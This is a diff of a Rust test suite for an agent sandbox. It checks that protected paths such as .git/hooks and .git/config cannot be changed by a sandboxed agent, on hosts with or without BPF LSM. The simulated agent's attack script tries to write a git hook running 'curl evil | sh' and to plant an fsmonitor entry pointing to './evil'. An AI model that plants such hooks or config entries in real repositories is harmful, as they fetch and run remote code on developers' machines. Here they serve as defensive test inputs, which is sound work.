@@ -1,10 +1,9 @@
-//! `filesystem.protect`: paths inside a writable workspace the agent may not change,
-//! enforced by the BPF LSM programs. Every test declares that it needs BPF LSM
-//! ([`bpf_lsm_usable`], probed without agentd's code): where the kernel has it, the agent
-//! attacks the protected paths every way a file can change and the kernel says no, with
-//! events of `layer: bpf-lsm`; where it does not (this project's hardened host), agentd
-//! refuses to start the agent, naming the protect list and the fix, and the agent's
-//! command never runs (the documented behaviour: no silent fallback).
+//! `filesystem.protect`: paths inside a writable workspace the agent may not change. On
+//! every host the agent's mount namespace binds them read-only and pins their ancestors as
+//! mount points (which cannot be renamed or removed); where the kernel runs BPF LSM, its
+//! programs refuse the same changes too, and forbid creating a protected path that is
+//! missing at launch. The agent attacks the protected paths every way a file can change,
+//! and nothing changes on disk.
 
 use std::{os::unix::fs::PermissionsExt as _, path::Path};
 
@@ -67,20 +66,9 @@ fn run(profile: &str, ws: &Path, script: &str) -> Run {
         .run()
 }
 
-/// Where BPF LSM is unusable: agentd refuses the profile before the agent's command runs
-/// (the script's first act would create `ran`), and says why and what to do.
-fn assert_refused_without_bpf_lsm(run: &Run, ws: &Path) {
-    assert_ne!(run.code(), 0, "{}", run.explain());
-    let err = run.stderr();
-    for needle in ["filesystem.protect", "BPF LSM", "agentd doctor"] {
-        assert!(err.contains(needle), "no {needle:?} in:\n{}", run.explain());
-    }
-    assert!(
-        !ws.join("ran").exists(),
-        "the agent ran without its protection\n{}",
-        run.explain()
-    );
-}
+/// The errors a protected path's change may meet: BPF LSM's EACCES, the read-only mount's
+/// EROFS, a pinned mount point's EBUSY, a link or rename across mounts' EXDEV.
+const REFUSED: [i32; 4] = [libc::EACCES, libc::EROFS, libc::EBUSY, libc::EXDEV];
 
 /// The refused event of `kind` on `path`, from the BPF LSM programs, naming `protected`.
 fn assert_lsm_refused(run: &Run, kind: &str, path: &Path, protected: &Path) {
@@ -131,9 +119,9 @@ attempt("rename_source", lambda: os.rename("main.py", "app.py"))
 print(json.dumps(out))
 "##;
 
-/// The issue's done-when: an agent under a profile protecting `.git/hooks` and
-/// `.git/config` in its writable workspace cannot create `.git/hooks/pre-commit`, nor
-/// change either by any route; the event says `layer: bpf-lsm`.
+/// An agent under a profile protecting `.git/hooks` and `.git/config` in its writable
+/// workspace cannot create `.git/hooks/pre-commit`, nor change either by any route, on
+/// every host (with BPF LSM or without).
 #[test]
 fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() {
     if !require_root() {
@@ -144,13 +132,8 @@ fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() 
     let run = run(&profile, ws.path(), ATTACKS);
     let lsm = bpf_lsm_usable();
     eprintln!("BPF LSM usable: {lsm}");
-    if !lsm {
-        assert_refused_without_bpf_lsm(&run, ws.path());
-        return;
-    }
     assert_eq!(run.code(), 0, "{}", run.explain());
     let r = run.json();
-    let eacces = serde_json::json!(libc::EACCES);
     for attack in [
         "create_hook",
         "append_sample",
@@ -171,7 +154,8 @@ fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() 
         "rename_hooks",
         "rmdir_hooks",
     ] {
-        assert_eq!(r[attack], eacces, "{attack}: {r}\n{}", run.explain());
+        let errno = r[attack].as_i64().unwrap_or(0) as i32;
+        assert!(REFUSED.contains(&errno), "{attack}: {r}\n{}", run.explain());
     }
     for allowed in [
         "plant_link",
@@ -198,28 +182,17 @@ fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() 
         std::fs::read_to_string(git.join("hooks/pre-commit.sample")).unwrap(),
         "#!/bin/sh\nexit 0\n"
     );
-
-    // Events: each refusal from the BPF LSM programs, naming the protected path.
+    assert!(!ws.path().join("old-git").exists());
+    // The refusals are events: the kernel's read-only mount's and pinned mount points'.
     let real = ws.path().canonicalize().unwrap();
-    let (hooks, config) = (real.join(".git/hooks"), real.join(".git/config"));
-    assert_lsm_refused(&run, "file_write", &hooks.join("pre-commit"), &hooks);
-    assert_lsm_refused(&run, "file_write", &config, &config);
-    assert_lsm_refused(&run, "file_truncate", &config, &config);
-    assert_lsm_refused(&run, "file_chmod", &config, &config);
-    assert_lsm_refused(
-        &run,
-        "file_unlink",
-        &hooks.join("pre-commit.sample"),
-        &hooks,
+    let config = real.join(".git/config");
+    assert!(
+        run.events.iter().any(|e| e["kind"] == "file_write"
+            && e["path"] == config.to_str().unwrap()
+            && e["verdict"] == "deny"),
+        "no refused write of .git/config\n{}",
+        run.explain()
     );
-    assert_lsm_refused(&run, "file_mkdir", &hooks.join("sub"), &hooks);
-    let rename_git = run
-        .events
-        .iter()
-        .find(|e| e["kind"] == "file_rename" && e["path"] == real.join(".git").to_str().unwrap())
-        .unwrap_or_else(|| panic!("no rename of .git\n{}", run.explain()));
-    assert_eq!(rename_git["layer"], "bpf-lsm", "{rename_git}");
-    assert_eq!(rename_git["verdict"], "deny", "{rename_git}");
     // The allowed writes are reported as the kernel's allowed writes.
     let source = real.join(".git/objects/ab");
     assert!(
@@ -231,8 +204,39 @@ fn protect_keeps_git_hooks_and_config_from_an_agent_that_writes_the_workspace() 
     );
 }
 
-/// A protected path that does not exist yet (a workspace that is no git repository yet)
-/// cannot be created: its first missing component (`.git`) cannot be, by any call.
+/// The built-in `coding-agent` protects `.git/hooks` and `.git/config` on every host: the
+/// agent's `git`-style attack (move `.git` aside, rebuild it with a hook) gets nowhere.
+#[test]
+fn the_coding_agent_profile_protects_git_hooks_on_every_host() {
+    if !require_root() {
+        return;
+    }
+    let ws = git_workspace();
+    let script = r##"
+attempt("create_hook", lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n"))
+attempt("move_git", lambda: os.rename(".git", ".git2"))
+attempt("config", lambda: open(".git/config", "a").write("[core]\n\tfsmonitor = ./evil\n"))
+attempt("source", lambda: open("main.py", "w").write("print(1)\n"))
+print(json.dumps(out))
+"##;
+    let run = AgentRun::new("coding-agent", ws.path())
+        .events_in(Path::new("/var/tmp"))
+        .python(&format!("{PY_ATTEMPT}\n{script}"))
+        .run();
+    assert_eq!(run.code(), 0, "{}", run.explain());
+    let r = run.json();
+    for attack in ["create_hook", "move_git", "config"] {
+        let errno = r[attack].as_i64().unwrap_or(0) as i32;
+        assert!(REFUSED.contains(&errno), "{attack}: {r}\n{}", run.explain());
+    }
+    assert_eq!(r["source"], 0, "{r}");
+    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
+    assert!(ws.path().join(".git/config").exists() && !ws.path().join(".git2").exists());
+}
+
+/// A protected path that does not exist yet (a workspace that is no git repository yet):
+/// where BPF LSM runs, it cannot be created (its first missing component, `.git`, cannot
+/// be, by any call); elsewhere there is nothing to bind, and the launch warns, naming it.
 #[test]
 fn protect_of_a_missing_path_forbids_creating_it() {
     if !require_root() {
@@ -252,7 +256,16 @@ print(json.dumps(out))
 "#;
     let run = run(&profile, ws.path(), script);
     if !bpf_lsm_usable() {
-        assert_refused_without_bpf_lsm(&run, ws.path());
+        // Nothing to bind: the launch says so, naming the path and what would forbid it.
+        assert_eq!(run.code(), 0, "{}", run.explain());
+        let err = run.stderr();
+        assert!(
+            err.contains("filesystem.protect")
+                && err.contains(".git/hooks")
+                && err.contains("BPF LSM"),
+            "{}",
+            run.explain()
+        );
         return;
     }
     assert_eq!(run.code(), 0, "{}", run.explain());
